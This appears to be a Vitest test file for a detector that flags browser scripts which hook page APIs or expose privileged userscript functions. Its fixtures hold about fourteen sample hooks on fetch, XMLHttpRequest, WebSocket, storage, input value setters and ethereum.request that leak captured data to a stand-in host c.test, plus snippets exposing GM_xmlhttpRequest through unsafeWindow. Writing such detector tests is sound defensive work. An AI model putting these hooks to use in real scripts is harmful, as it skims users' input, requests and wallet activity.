import { describe, expect, test } from "vitest";
import { userscript } from "../testing/find-in.ts";
import { sinksOf, traceOf } from "../testing/trace-of.ts";

const SEND = 'function send(data) { new Image().src = "https://c.test/?" + data; }\n';

/** Each replaces a function of the page or the browser, and sends the arguments that the page passes. */
const HOOKS = [
	[
		"window.fetch",
		"const real = window.fetch; window.fetch = (...all) => { send(all[1].body); return real(...all); };",
		"window.fetch",
	],
	["a bare fetch", "const real = fetch; fetch = function (to) { send(to); return real(to); };", "window.fetch"],
	[
		"XMLHttpRequest.prototype.send",
		"const real = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { send(body); return real.call(this, body); };",
		"XMLHttpRequest.prototype.send",
	],
	[
		"XMLHttpRequest.prototype.open",
		"const real = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (method, to) { send(to); return real.apply(this, arguments); };",
		"XMLHttpRequest.prototype.open",
	],
	[
		"a class that takes a place",
		"const Real = WebSocket; window.WebSocket = class extends Real { send(data) { send(data); super.send(data); } };",
		"window.WebSocket",
	],
	[
		"Storage.prototype.setItem",
		"const real = Storage.prototype.setItem; Storage.prototype.setItem = function (key, text) { send(text); real.call(this, key, text); };",
		"Storage.prototype.setItem",
	],
	["JSON.parse", "const real = JSON.parse; JSON.parse = (text) => { send(text); return real(text); };", "JSON.parse"],
	[
		"history.pushState",
		"const real = history.pushState; history.pushState = function (state, title, to) { send(to); return real.apply(this, arguments); };",
		"history.pushState",
	],
	[
		"addEventListener",
		"const real = EventTarget.prototype.addEventListener; EventTarget.prototype.addEventListener = function (name, one) { send(name); return real.call(this, name, one); };",
		"EventTarget.prototype.addEventListener",
	],
	[
		"a proxy around fetch",
		"window.fetch = new Proxy(window.fetch, { apply(real, self, all) { send(all[1]); return Reflect.apply(real, self, all); } });",
		"window.fetch",
	],
	["defineProperty", `Object.defineProperty(window, "fetch", { value: (to) => send(to) });`, "window.fetch"],
	[
		"a setter on a prototype",
		`Object.defineProperty(HTMLInputElement.prototype, "value", { set(text) { send(text); } });`,
		"Element.prototype.value",
	],
	["navigator.sendBeacon", "navigator.sendBeacon = (to, body) => send(body);", "navigator.sendBeacon"],
	[
		"ethereum.request",
		"const real = ethereum.request; ethereum.request = (asked) => { send(asked); return real(asked); };",
		"wallet.request",
	],
] as const;

const PRIVILEGED = [
	["the function itself", "unsafeWindow.ask = GM_xmlhttpRequest;"],
	["a function around it", "unsafeWindow.ask = (url) => GM_xmlhttpRequest({ url });"],
	["an object with one", "unsafeWindow.api = { ask: (url) => GM_xmlhttpRequest({ url }) };"],
	["a bound one", "unsafeWindow.ask = GM_xmlhttpRequest.bind(null);"],
	["an exported one", 'exportFunction((url) => GM_xmlhttpRequest({ url }), unsafeWindow, { defineAs: "ask" });'],
] as const;

describe("hooks", () => {
	test.each(HOOKS)("%s: data passed by the page is recorded", (_title, code, target) => {
		const trace = traceOf(SEND + code);
		expect(trace.hooks.map((hook) => hook.target).join(", ")).toBe(target);
		expect(sinksOf(SEND + code)).toContain("request img.src > third-party c.test < url request (page-event)");
	});

	test.each(HOOKS)("%s: a function without sinks records nothing", (_title, code) => {
		const quiet = sinksOf(`function send() {}\n${code}`);
		expect(quiet.filter((line) => line.includes("c.test"))).toEqual([]);
	});

	test("a name of its own on the window replaces nothing", () => {
		const trace = traceOf(`${SEND}window.myTool = (data) => send(data);`);
		expect(trace.sinks.flatMap(({ carried }) => carried)).toEqual([]);
	});

	test.each(PRIVILEGED)("functions exposed to the page: %s", (_title, code) => {
		const trace = traceOf(userscript(["match *://*/*", "grant GM_xmlhttpRequest", "grant unsafeWindow"], code));
		expect(trace.hooks.flatMap(({ gives }) => gives)).toEqual(["GM_xmlhttpRequest"]);
	});

	test("a function without privileges gives nothing away", () => {
		const trace = traceOf(userscript(["match *://*/*", "grant unsafeWindow"], "unsafeWindow.add = (a, b) => a + b;"));
		expect(trace.hooks.map(({ target, gives }) => [target, gives])).toEqual([["window.add", []]]);
	});
});
